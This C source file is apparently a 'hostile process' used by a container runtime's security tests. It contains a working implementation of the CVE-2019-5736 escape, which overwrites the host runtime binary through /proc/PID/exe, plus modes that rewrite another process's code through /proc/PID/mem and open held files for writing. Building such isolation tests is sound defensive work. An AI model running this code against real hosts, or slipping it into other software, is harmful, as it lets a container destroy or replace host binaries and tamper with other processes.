/* A hostile process for runwasm's security tests (test/e2e/security.sh). Static, no libc
 * beyond what gcc -static links. Every mode prints one line per attempt:
 *   `refused WHAT: ERROR` when the kernel said no, `ESCAPED WHAT: ...` when it did not,
 * and a last line `MODE: done` so a crash or an empty output is told apart from success.
 *
 *   attacker watch LOG       CVE-2019-5736: as a container's init, scan /proc for a process
 *                            whose executable is not on this program's filesystem (the
 *                            runtime entering the container), keep an O_PATH fd of its
 *                            /proc/PID/exe, and once it has exited try to reopen that fd
 *                            for writing and overwrite the binary. Appends to LOG: `opened exe of pid N (TARGET)`, then
 *                            one `result: ...` line: `result: write: ERROR`, or
 *                            `result: OVERWROTE TARGET` when the attack worked. Runs forever.
 *   attacker mem PID         read and write back 16 bytes of PID's code via /proc/PID/mem
 *   attacker exe PID         open /proc/PID/exe for writing
 *   attacker fds PID         open for writing every regular file PID holds open
 *                            (/proc/PID/fd/N and /proc/PID/map_files/RANGE)
 *   attacker openw PATH...   open each PATH for writing (without truncating it)
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/types.h>
#include <time.h>
#include <unistd.h>

static void say(const char *fmt, ...) {
    va_list ap;
    va_start(ap, fmt);
    vprintf(fmt, ap);
    va_end(ap);
    putchar('\n');
    fflush(stdout);
}

static int logfd = -1;
static void logline(const char *fmt, ...) {
    char buf[512];
    va_list ap;
    va_start(ap, fmt);
    int n = vsnprintf(buf, sizeof buf - 1, fmt, ap);
    va_end(ap);
    if (n < 0) return;
    if (n > (int)sizeof buf - 2) n = sizeof buf - 2;
    buf[n++] = '\n';
    if (write(logfd, buf, n) < 0) _exit(3);
}

static void sleep_ms(long ms) {
    struct timespec ts = {ms / 1000, (ms % 1000) * 1000000L};
    nanosleep(&ts, 0);
}

static int alive(pid_t pid) {
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/stat", pid);
    FILE *f = fopen(path, "r");
    if (!f) return 0;
    char state = 0;
    /* pid (comm) state: a zombie has exited (its exe is gone too) */
    int ok = fscanf(f, "%*d (%*[^)]) %c", &state) == 1;
    fclose(f);
    return ok && state != 'Z' && state != 'X';
}

/* the CVE-2019-5736 attack, as its public write-up describes it */
static int watch(const char *log) {
    logfd = open(log, O_WRONLY | O_CREAT | O_APPEND | O_CLOEXEC, 0644);
    if (logfd < 0) { perror(log); return 2; }
    /* reap whatever the runtime leaves to the namespace's init */
    signal(SIGCHLD, SIG_IGN);
    struct stat self;
    if (stat("/proc/self/exe", &self) < 0) { logline("cannot stat /proc/self/exe: %s", strerror(errno)); return 2; }
    logline("watching for the runtime");
    pid_t me = getpid();
    pid_t last = 0;
    for (;;) {
        DIR *proc = opendir("/proc");
        if (!proc) { logline("cannot list /proc: %s", strerror(errno)); sleep_ms(500); continue; }
        struct dirent *e;
        while ((e = readdir(proc))) {
            pid_t pid = atoi(e->d_name);
            if (pid <= 0 || pid == me || pid == last) continue;
            char path[64];
            snprintf(path, sizeof path, "/proc/%d/exe", pid);
            int fd = open(path, O_PATH | O_CLOEXEC);
            if (fd < 0) continue;
            struct stat st;
            /* a program of the container's own filesystem is no runtime: the runtime's
             * binary lives on the host (or wherever it was sealed) */
            if (fstat(fd, &st) < 0 || st.st_dev == self.st_dev) {
                close(fd);
                continue;
            }
            char target[256] = "?";
            char fdlink[64];
            snprintf(fdlink, sizeof fdlink, "/proc/self/fd/%d", fd);
            ssize_t n = readlink(fdlink, target, sizeof target - 1);
            if (n > 0) target[n] = 0;
            logline("opened exe of pid %d (%s)", pid, target);
            last = pid;
            /* the binary is busy (ETXTBSY) while it runs: wait for it to exit, then keep
             * trying for a while (other runtime commands may be running it) */
            while (alive(pid)) sleep_ms(1);
            int err = 0;
            for (int i = 0; i < 3000; i++) {
                int w = open(fdlink, O_WRONLY | O_TRUNC | O_CLOEXEC);
                if (w >= 0) {
                    static const char marker[] = "OVERWRITTEN BY A CONTAINER\n";
                    if (write(w, marker, sizeof marker - 1) == (ssize_t)sizeof marker - 1)
                        logline("result: OVERWROTE %s (exe of pid %d)", target, pid);
                    else /* O_TRUNC succeeded: the binary is already destroyed */
                        logline("result: OVERWROTE %s (truncated; write: %s)", target, strerror(errno));
                    close(w);
                    err = -1;
                    break;
                }
                err = errno;
                if (err != ETXTBSY) break;
                sleep_ms(1);
            }
            if (err > 0) logline("result: write: %s (exe of pid %d)", strerror(err), pid);
            close(fd);
        }
        closedir(proc);
    }
}

/* CAP-less code injection into another process of the container */
static int mem(const char *pid) {
    char path[64];
    snprintf(path, sizeof path, "/proc/%s/maps", pid);
    unsigned long addr = 0;
    FILE *maps = fopen(path, "r");
    if (!maps) {
        say("refused read %s: %s", path, strerror(errno));
    } else {
        char line[512];
        while (fgets(line, sizeof line, maps)) {
            unsigned long lo, hi;
            char perms[5];
            if (sscanf(line, "%lx-%lx %4s", &lo, &hi, perms) == 3 && strcmp(perms, "r-xp") == 0) { addr = lo; break; }
        }
        fclose(maps);
        say("ESCAPED read %s: code at %#lx", path, addr);
    }
    snprintf(path, sizeof path, "/proc/%s/mem", pid);
    int fd = open(path, O_RDWR);
    if (fd < 0) fd = open(path, O_RDONLY);
    if (fd < 0) {
        say("refused open %s: %s", path, strerror(errno));
    } else if (!addr) {
        say("ESCAPED open %s: opened (no address to read)", path);
    } else {
        unsigned char code[16];
        if (pread(fd, code, sizeof code, (off_t)addr) != (ssize_t)sizeof code) {
            say("refused read %s at %#lx: %s", path, addr, strerror(errno));
        } else {
            say("ESCAPED read %s: 16 bytes of code at %#lx", path, addr);
            if (pwrite(fd, code, sizeof code, (off_t)addr) == (ssize_t)sizeof code)
                say("ESCAPED write %s: rewrote 16 bytes of code at %#lx", path, addr);
            else
                say("refused write %s at %#lx: %s", path, addr, strerror(errno));
        }
        close(fd);
    }
    say("mem: done");
    return 0;
}

static void try_write(const char *path) {
    char target[256] = "?";
    ssize_t n = readlink(path, target, sizeof target - 1);
    if (n > 0) target[n] = 0; else snprintf(target, sizeof target, "%s", path);
    int fd = open(path, O_WRONLY | O_CLOEXEC);
    if (fd >= 0) {
        say("ESCAPED open-write %s: opened %s for writing", path, target);
        close(fd);
    } else {
        say("refused open-write %s: %s", path, strerror(errno));
    }
}

static int exe(const char *pid) {
    char path[64];
    snprintf(path, sizeof path, "/proc/%s/exe", pid);
    try_write(path);
    say("exe: done");
    return 0;
}

/* every regular file the process has open or mapped: on the host, the compile cache's
 * artifact of a Wasm container is one */
static int fds(const char *pid) {
    const char *dirs[] = {"fd", "map_files"};
    for (int d = 0; d < 2; d++) {
        char dir[64];
        snprintf(dir, sizeof dir, "/proc/%s/%s", pid, dirs[d]);
        DIR *dp = opendir(dir);
        if (!dp) { say("refused list %s: %s", dir, strerror(errno)); continue; }
        struct dirent *e;
        int seen = 0;
        while ((e = readdir(dp))) {
            if (e->d_name[0] == '.') continue;
            char path[384];
            snprintf(path, sizeof path, "%s/%s", dir, e->d_name);
            struct stat st;
            if (stat(path, &st) < 0) { say("refused stat %s: %s", path, strerror(errno)); continue; }
            if (!S_ISREG(st.st_mode)) continue; /* pipes, ttys, /dev/null: the container's own */
            seen++;
            try_write(path);
        }
        closedir(dp);
        say("listed %s: %d regular files", dir, seen);
    }
    say("fds: done");
    return 0;
}

static int openw(int argc, char **argv) {
    for (int i = 0; i < argc; i++) try_write(argv[i]);
    say("openw: done");
    return 0;
}

int main(int argc, char **argv) {
    if (argc >= 3 && !strcmp(argv[1], "watch")) return watch(argv[2]);
    if (argc >= 3 && !strcmp(argv[1], "mem")) return mem(argv[2]);
    if (argc >= 3 && !strcmp(argv[1], "exe")) return exe(argv[2]);
    if (argc >= 3 && !strcmp(argv[1], "fds")) return fds(argv[2]);
    if (argc >= 2 && !strcmp(argv[1], "openw")) return openw(argc - 2, argv + 2);
    fprintf(stderr, "usage: attacker watch LOG | mem PID | exe PID | fds PID | openw PATH...\n");
    return 2;
}
